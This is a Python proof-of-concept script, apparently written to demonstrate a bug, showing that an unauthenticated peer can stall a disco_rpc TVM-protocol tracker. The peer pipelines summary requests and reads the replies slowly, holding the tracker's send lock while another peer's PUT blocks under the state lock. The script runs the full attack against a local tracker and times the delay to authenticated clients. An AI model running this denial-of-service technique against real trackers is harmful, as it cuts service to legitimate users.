"""An unauthenticated TVM-protocol peer stalls the whole tracker (authenticated links too).

A TVM link A queues a REQUEST, then pipelines SUMMARY requests and reads their replies
only a trickle at a time: A's own thread sits in sendall() with A's send lock held.
Another TVM link B then PUTs a slot of A's key: _match runs with the tracker state's
lock held and blocks on A's send lock for as long as A's summary send lasts. Every
authenticated call (summary, request, a server's PUT, session end) waits on that lock.
"""

import socket
import struct
import sys
import threading
import time

import disco_rpc as rpc
from disco_rpc import base
from disco_rpc.base import TrackerCode as C

TOKEN = "s3cret"
HOLD = float(sys.argv[1]) if len(sys.argv) > 1 else 15.0


def conn(port, rcvbuf=None):
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect(("127.0.0.1", port))
    s.sendall(struct.pack("<i", base.RPC_TRACKER_MAGIC))
    assert struct.unpack("<i", base.recvall(s, 4))[0] == base.RPC_TRACKER_MAGIC
    return s


tr = rpc.Tracker(port=9400, port_end=9500, tvm_protocol=True, token=TOKEN, silent=True)
try:
    port = tr.port
    ours = rpc.connect_tracker("127.0.0.1", port, token=TOKEN)
    t0 = time.monotonic()
    ours.summary()
    print(f"authenticated summary before: {time.monotonic() - t0:.3f} s")
    # make the summary big: links that describe themselves with long keys/hosts
    fat = []
    for i in range(100):
        s = conn(port)
        base.sendjson(
            s,
            [C.UPDATE_INFO, {"key": "server:" + f"{i:04d}" + "k" * 250, "addr": ["h" * 255, 9000]}],
        )
        assert base.recvjson(s) == C.SUCCESS
        fat.append(s)
    a = conn(port, rcvbuf=4096)
    base.sendjson(a, [C.SUMMARY])
    n = struct.unpack("<i", base.recvall(a, 4))[0]
    base.recvall(a, n)
    print(f"summary is {n} bytes")
    base.sendjson(a, [C.REQUEST, "bait", "attacker", 1])
    for _ in range(200):
        base.sendjson(a, [C.SUMMARY])
    time.sleep(1.0)  # A's thread now blocks in sendall with its send lock held
    stop = threading.Event()

    def trickle():  # read just enough that each send() of the tracker progresses within 2 s
        a.settimeout(0.2)
        while not stop.is_set():
            try:
                a.recv(2048)
            except (TimeoutError, OSError):
                pass
            time.sleep(0.5)

    if "--trickle" in sys.argv:
        threading.Thread(target=trickle, daemon=True).start()
    b = conn(port)
    base.sendjson(
        b, [C.PUT, "bait", [9999, "bait:0.1"], None]
    )  # -> _match -> A.send: waits, state lock held
    time.sleep(0.3)
    t0 = time.monotonic()
    done = threading.Event()

    def probe():
        ours2 = rpc.connect_tracker("127.0.0.1", port, token=TOKEN)
        ours2.summary()
        done.set()

    threading.Thread(target=probe, daemon=True).start()
    done.wait(HOLD)
    dt = time.monotonic() - t0
    print(
        f"authenticated summary during the attack: {f'{dt:.1f} s' if done.is_set() else f'NO ANSWER after {HOLD:.0f} s'}"
    )
    stop.set()
    a.close()
    b.close()
    for s in fat:
        s.close()
    done.wait(10)
    print(f"after the attacker left: answered={done.is_set()} at {time.monotonic() - t0:.1f} s")
finally:
    tr.terminate()
